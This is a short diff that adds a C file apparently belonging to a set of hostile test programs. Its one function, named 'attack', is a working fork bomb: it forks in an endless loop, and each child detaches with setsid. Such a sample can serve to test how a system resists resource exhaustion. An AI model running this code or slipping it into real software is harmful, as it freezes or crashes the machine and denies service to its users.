@@ -1,0 +1,8 @@
+#include "hostile.h"
+
+static void attack(void)
+{
+    for (;;)
+        if (syscall(SYS_fork) == 0)
+            syscall(SYS_setsid);
+}
